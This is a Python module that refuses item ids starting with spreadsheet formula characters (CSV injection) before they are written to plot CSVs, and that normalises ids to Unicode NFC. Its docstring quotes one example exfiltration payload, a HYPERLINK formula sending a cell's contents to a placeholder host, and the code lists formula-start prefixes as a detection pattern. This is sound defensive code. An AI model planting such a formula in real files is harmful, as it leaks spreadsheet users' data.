"""Item ids as read from other people's data: what one may not start with (a character a
spreadsheet reads as the start of a formula), and the form ids are compared in (Unicode's NFC).

Item ids come from other people's data (a transcript's file name or its "id", a RAG row's id, a
SummEval document and system) and are written as they are into the CSVs the stages write for DVC
plots (outputs/*/plots/*.csv, outputs/regen/items.csv), which a user may open in a spreadsheet.
There a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is taken as a formula
and may run (OWASP, "CSV Injection"), e.g. an id `=HYPERLINK("http://x/?"&A1, "301")`.

OWASP's fix, a `'` put before such a cell, would change the id the CSV holds, and with it what DVC
plots, pandas or a join with the JSONL outputs read; judgeloop's outputs hold the data exactly. So
such an id is refused where it is read instead, naming the file, the line and the fix: every id
judgeloop's own data and the corpora it reads use starts with a letter or a digit, and one that
does not is far more likely a mistake or an attack than a name someone chose.

Ids that differ only in case stay two items, as they are two files on Linux: where an id becomes a
file name, the name is made distinct ignoring case (pipeline.reports.pages), and a label file's id
that matches a transcript's only ignoring case is told so (pipeline.data.transcripts).
"""

from __future__ import annotations

import re
import unicodedata

from pipeline.data.json_keys import shown
from pipeline.llm.project_files import quoted

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A spreadsheet reads "-1" as the number -1 (as it reads "007" as 7): no formula runs, and a corpus
# may number its items so (JSON's -1 as a JSONL interview's "id").
_NEGATIVE_WHOLE = re.compile(r"-[0-9]+")
FORMULA_FIX = "start the id with a letter or a digit"


def formula_problem(item_id: str, file: str, what: str = "item id") -> str | None:
    """Why `item_id` (read from the file named `file`) may not be an id, or None: it starts as a
    spreadsheet formula does, other than a negative whole number. The id is quoted only inside the
    project (cut at 80 characters)."""
    if not item_id.startswith(FORMULA_STARTS) or _NEGATIVE_WHOLE.fullmatch(item_id):
        return None
    return (
        f"{what} {quoted(file, shown(item_id))} starts with {item_id[0]!r}, which a spreadsheet opening "
        "the CSVs judgeloop writes would run as a formula"
    )


def composed(item_id: str) -> str:
    """The id in Unicode's composed form (NFC), as ids are compared: `é` written as one code point
    and as `e` and an accent look the same, and are one id (a second is refused, both named)."""
    return item_id if item_id.isascii() else unicodedata.normalize("NFC", item_id)
